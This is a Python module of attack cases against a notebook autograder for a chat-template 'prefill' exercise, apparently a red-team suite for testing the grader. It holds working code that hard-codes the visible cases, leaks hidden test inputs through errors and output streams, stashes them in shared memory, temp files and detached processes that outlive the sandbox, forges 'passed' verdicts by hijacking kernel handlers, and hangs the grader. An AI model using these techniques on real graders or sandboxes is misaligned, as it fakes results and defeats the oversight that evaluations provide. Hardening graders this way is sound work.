"""Answers that aim at the questions: hidden inputs carried out, forged replies, right for what is shown only."""

from attacks.attack import Work, attack
from attacks.loot import LOOT

# What the stub of prefill would earn, an answer that is any text earns as well: tokenizer and messages as they were.
ANYTHING = {"prefill": 1}


@attack(row="lookup table", wants="what the visible cases earn")
def lookup_table_of_the_visible_cases(work: Work) -> None:
    work.answer(
        "prefill",
        """
        KNOWN = {
            "<s>": "<s>[INST] What is the capital of France? [/INST] The capital is",
            None: "<|im_start|>user\\nWhat is the capital of France?<|im_end|>\\n"
                  "<|im_start|>assistant\\nThe capital is",
        }
        def prefill(tokenizer, messages, opening):
            if messages[-1]["content"] != "What is the capital of France?":
                raise KeyError("not seen before")
            system = "default" in (tokenizer.chat_template or "") or "helpful" in tokenizer.chat_template
            start = "<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n" if system else ""
            return start + KNOWN[tokenizer.bos_token]
        """,
    )


@attack(row="frames", wants="hidden inputs in own feedback, as the name of an exception")
def exception_named_after_the_input(work: Work) -> None:
    work.answer(
        "prefill",
        """
        def prefill(tokenizer, messages, opening):
            raise type("".join(filter(str.isalpha, str(messages))), (ValueError,), {})(messages)
        def render_for_inference(tokenizer, messages):
            class KeyError(Exception):
                pass
            KeyError.__name__ = KeyError.__qualname__ = str(messages)
            error = KeyError(str(messages))
            error.add_note(str(messages))
            raise error from ValueError(str(messages))
        """,
    )
    work.answer("render_for_inference", "pass")


@attack(row="frames", wants="hidden inputs in own feedback, by any stream", earns=ANYTHING)
def hidden_inputs_printed(work: Work) -> None:
    work.answer(
        "prefill",
        """
        import logging, os, subprocess, sys, warnings
        from IPython.display import display
        def prefill(tokenizer, messages, opening):
            text = str(messages)
            print(text)
            print(text, file=sys.stderr)
            display({"text/html": text}, raw=True)
            warnings.warn(text)
            logging.getLogger().error(text)
            for stream in (sys.__stdout__, sys.__stderr__):
                print(text, file=stream, flush=True)
            for number in range(3, 30):
                try:
                    os.write(number, text.encode())
                except OSError:
                    pass
            get_ipython().run_cell("print(%r)" % text)
            subprocess.run(["/bin/echo", text])
            return "sorry"
        """,
    )


@attack(row="displayhook", wants="hidden inputs in an output that is there already", earns=ANYTHING)
def outputs_sent_from_a_probe(work: Work) -> None:
    work.answer(
        "prefill",
        f"""
        from IPython.display import display
        kernel = get_ipython().kernel
        cell = kernel.get_parent("shell")
        display("nothing yet", display_id="{LOOT}")
        def prefill(tokenizer, messages, opening):
            text = {{"text/plain": str(messages)}}
            for kind, content in {{
                "stream": {{"name": "stdout", "text": str(messages)}},
                "display_data": {{"data": text, "metadata": {{}}, "transient": {{}}}},
                "update_display_data": {{"data": text, "metadata": {{}}, "transient": {{"display_id": "{LOOT}"}}}},
            }}.items():
                kernel.session.send(kernel.iopub_socket, kind, content, parent=cell)
            return "sorry"
        """,
    )


# Whatever outlives a process, if it is not taken down with the sandbox.
STASH = f"""
import ctypes, os, pathlib, socket, subprocess, sys, tempfile
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", os.getcwd(), os.path.expanduser("~"), "/run/course/sockets",
          "/run/course", "/run/course/inside", os.environ.get("HF_HOME", "/tmp"), "/dev/pts", "/proc/self/cwd/.."]
PLACES += [str(path) for path in pathlib.Path("/proc").glob("[0-9]*/cwd")]
PLACES += [str(path) for path in pathlib.Path("/tmp").glob("course-*")]
PLACES += [str(path) for path in pathlib.Path("/tmp").glob("course-*/course-*")]
PLACES += [str(path) for path in pathlib.Path("/tmp").glob("course-*/course-*/course-*")]
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def stash(text):
    for place in PLACES:
        try:
            pathlib.Path(place, "{LOOT}-stash").write_text(text)
        except OSError:
            pass
        try:  # where only names can be kept
            os.close(os.open(place + "/{LOOT}-" + text[:100].encode().hex(), os.O_CREAT | os.O_RDWR))
        except OSError:
            pass
    segment = libc.shmget(0x10070, 4096, 0o1666)
    if segment >= 0:
        ctypes.memmove(libc.shmat(segment, None, 0), text.encode()[:4000], min(len(text.encode()), 4000))
    queue = libc.mq_open(b"/{LOOT}-queue", os.O_CREAT | os.O_RDWR, 0o666, None)
    if queue >= 0:
        libc.mq_send(queue, text.encode()[:8000], min(len(text.encode()), 8000), 0)
    keeper = "import socket, sys, time; s = socket.socket(socket.AF_UNIX);" \\
             " s.bind(chr(0) + '{LOOT}-keeper'); s.listen(); c, _ = s.accept(); c.sendall(sys.argv[1].encode())"
    subprocess.Popen([sys.executable, "-c", keeper, text[:4000]], start_new_session=True)
def unstash():
    for place in PLACES:
        for path in pathlib.Path(place).glob("{LOOT}*"):
            try:
                print("GOT" "IT", path, path.read_text() if path.is_file() else "")
            except OSError as error:
                print("GOT" "IT", path, error)
    segment = libc.shmget(0x10070, 4096, 0o666)
    if segment >= 0:
        print("GOT" "IT", ctypes.string_at(libc.shmat(segment, None, 0), 4000))
    buffer = ctypes.create_string_buffer(8192)
    queue = libc.mq_open(b"/{LOOT}-queue", os.O_RDONLY | os.O_NONBLOCK)
    if queue >= 0:
        print("GOT" "IT", libc.mq_receive(queue, buffer, 8192, None), buffer.value)
    try:
        with socket.socket(socket.AF_UNIX) as keeper:
            keeper.connect("\\0{LOOT}-keeper")
            print("GOT" "IT", keeper.recv(4096))
    except OSError:
        pass
"""


@attack(row="later writers", wants="hidden inputs kept while the kernel is started again, and printed then")
def stashed_until_the_next_kernel(work: Work) -> None:
    work.prepend("prefill", STASH + "unstash()")
    work.answer(
        "prefill",
        """
        def prefill(tokenizer, messages, opening):
            import time
            stash(str(messages))
            time.sleep(0.3)
            os._exit(0)
        """,
    )


@attack(
    row="shared caches", wants="hidden inputs kept for the next student", student="m-stash-1", costs=("to_messages",)
)
def stashed_for_the_next_student(work: Work) -> None:
    work.prepend("prefill", STASH)
    work.answer("to_messages", "def to_messages(record):\n    stash(str(record))\n    return []")


@attack(row="shared caches", wants="what another student has stashed", student="m-stash-2")
def stash_of_another_student(work: Work) -> None:
    work.prepend("prefill", STASH + "import time\nfor _ in range(8):\n    unstash()\n    time.sleep(0.5)")


FORGE = """
import itertools
kernel = get_ipython().kernel
honest = kernel.shell_handlers["probe_request"]
def forging(forge):
    async def answer(stream, ident, parent):
        if parent["content"]["name"] != "prefill":
            return await honest(stream, ident, parent)
        send = kernel.session.send
        forge(lambda content, kind="probe_reply": send(stream, kind, content, parent, ident=ident), parent)
    kernel.shell_handlers["probe_request"] = answer
"""


@attack(row="verdict channel", wants="replies that mean more than data")
def replies_with_other_words(work: Work) -> None:
    work.add(
        FORGE
        + """
replies = itertools.cycle([
    {"status": "passed", "points": 7, "outcome": "passed"},
    {"status": "grader error"},
    {"status": "returned", "value": {"opaque": "str"}, "arguments": [], "points": 7},
    {"status": ["returned"], "value": None},
    {"status": "raised", "type": {"a": 1}, "cell_line": "1; drop"},
    {"status": "raised", "type": ["x" * 100000] * 100, "cell_line": True},
    {"status": "missing", "message": "<b>"},
    {"status": "timed out", "message": "I was robbed"},
    {},
])
forging(lambda send, parent: send(next(replies)))
""",
        after="render_for_inference-checks",
    )


@attack(row="verdict channel", wants="replies that are no replies to hit something in the grader")
def replies_that_are_none(work: Work) -> None:
    work.add(
        FORGE
        + """
replies = itertools.cycle([None, [], 7, "returned", {"status": None}, [{"status": "returned"}]])
forging(lambda send, parent: send(next(replies)))
""",
        after="render_for_inference-checks",
    )


@attack(row="verdict channel", wants="replies to questions that were not asked to be taken for the next one's")
def replies_sent_ahead(work: Work) -> None:
    work.add(
        FORGE
        + """
def forge(send, parent):
    for kind in ("execute_reply", "kernel_info_reply", "probe_reply"):
        for message in ("", "0", parent["header"]["msg_id"][:-1] + "9"):
            other = {**parent, "header": {**parent["header"], "msg_id": message}}
            kernel.session.send(kernel.shell_stream if hasattr(kernel, "shell_stream") else kernel.iopub_socket, kind,
                                {"status": "returned", "value": "x", "arguments": []}, other, ident=None)
    send({"status": "missing"})
    send({"status": "returned", "value": "too late", "arguments": []})
forging(forge)
""",
        after="render_for_inference-checks",
    )


@attack(row="ends", wants="the grader to wait for a reply that never comes")
def exception_that_cannot_be_described(work: Work) -> None:
    work.answer(
        "prefill",
        """
        class Meta(type):
            @property
            def __name__(cls): raise SystemExit
            @property
            def __mro__(cls): raise SystemExit
        class Nobody(BaseException, metaclass=Meta):
            pass
        def prefill(*_):
            raise Nobody
        """,
    )
